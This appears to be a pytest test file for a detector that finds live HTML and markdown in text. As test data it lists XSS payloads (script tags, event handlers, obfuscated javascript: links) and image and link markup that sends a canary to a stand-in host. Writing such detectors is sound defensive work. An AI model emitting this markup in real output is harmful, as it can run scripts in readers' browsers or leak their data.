"""HTML and markdown: what a browser would do with the text."""

from __future__ import annotations

import pytest

from security_pack.sinks import active_parts, fires

CANARY = "qx7canary7xq"


def rules(text: str, kind: str = "html") -> set[str]:
    return {hit.rule for hit in active_parts("markdown" if kind == "markdown" else "html", text)}


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("<script>alert(1)</script>", "script"),
        ("<svg><script>alert(1)</script></svg>", "script"),
        ("<template><script>x</script></template>", "script"),
        ("<img src=x onerror=alert(1)>", "event_handler"),
        ("<tr onclick=alert(1)>x</tr>", "event_handler"),
        ("<frameset onload=alert(1)>", "event_handler"),
        ('<a href="java\nscript:alert(1)">x</a>', "script_address"),
        ("<a href=javascript&colon;alert(1)>x</a>", "script_address"),
        ("javascript:alert(1)", "script_address"),
        ('" onmouseover="alert(1)', "event_handler"),
        ("<iframe src=//evil.invalid></iframe>", "embedded_page"),
        ("<base href=//evil.invalid>", "document_setting"),
        ("<style>@import '//evil.invalid'</style>", "style"),
        ("<img src=https://evil.invalid/x.png>", "external_image"),
        ("<b style='position:fixed'>x</b>", "attribute"),
        ("before <!-- hidden --> after", "comment"),
        ("<img src='https://evil.invalid/?", "unclosed"),
        ("<textarea>", "unclosed"),
    ],
)
def test_live_markup_is_found_and_named(text: str, rule: str) -> None:
    assert rule in rules(text)


@pytest.mark.parametrize(
    "text",
    [
        "5 < 6 && 7 > 3",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "Bob <bob@example.com> wrote",
        "write to <your name> here",
        "<b>bold</b> and <a href='https://example.com/'>a link</a>",
        "JavaScript: the good parts",
        "Data: the script is in HTML",
    ],
)
def test_escaped_quoted_and_plainly_formatted_text_is_not_live(text: str) -> None:
    assert rules(text) == set()


@pytest.mark.parametrize(
    "text",
    [
        f"<script>{CANARY}</script>",
        f"<img src=x onerror='{CANARY}'>",
        f"<{CANARY}>",
        f"<b {CANARY}>x</b>",
        f"<a href='https://evil.invalid/?{CANARY}'>x</a>",
        f"<!-- {CANARY} -->",
    ],
)
def test_a_canary_in_an_element_an_attribute_or_a_script_fires(text: str) -> None:
    assert fires("html", text, CANARY)


@pytest.mark.parametrize(
    "text",
    [
        f"<b>{CANARY}</b>",
        f"<script>x</script>{CANARY}",
        f"&lt;script&gt;{CANARY}&lt;/script&gt;",
        f'<td title="&lt;img onerror={CANARY}&gt;">x</td>',
    ],
)
def test_a_canary_that_is_shown_does_not(text: str) -> None:
    assert not fires("html", text, CANARY)


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("![x](https://evil.invalid/x.png)", "external_image"),
        ("![x](//evil.invalid/x.png)", "external_image"),
        ("![x][1]\n\n[1]: https://evil.invalid/x.png", "external_image"),
        ("[![x](https://evil.invalid/x.png)](https://example.com)", "external_image"),
        ("<img src=https://evil.invalid/x.png>", "external_image"),
        ("[x](javascript:alert(1))", "script_address"),
        ("[x](<data:text/html,hi>)", "script_address"),
        ("text <b onclick=alert(1)>x</b>", "event_handler"),
    ],
)
def test_live_markdown_is_found_and_named(text: str, rule: str) -> None:
    assert rule in rules(text, "markdown")


@pytest.mark.parametrize(
    "text",
    [
        "[Reset](https://example.com/reset?token=1)",
        "![x](images/local.png)",
        "`![x](https://evil.invalid/x.png)`",
        "    <script>x</script>",
        r"\![x](https://example.com/x.png)",
    ],
)
def test_links_code_and_escaped_markdown_are_not_live(text: str) -> None:
    assert rules(text, "markdown") == set()


def test_a_canary_in_the_address_of_a_link_or_an_image_fires_and_in_code_it_does_not() -> None:
    assert fires("markdown", f"[x](https://evil.invalid/?d={CANARY})", CANARY)
    assert fires("markdown", f"![x][1]\n\n[1]: https://evil.invalid/{CANARY}", CANARY)
    assert not fires("markdown", f"`![x](https://evil.invalid/{CANARY})` and {CANARY}", CANARY)
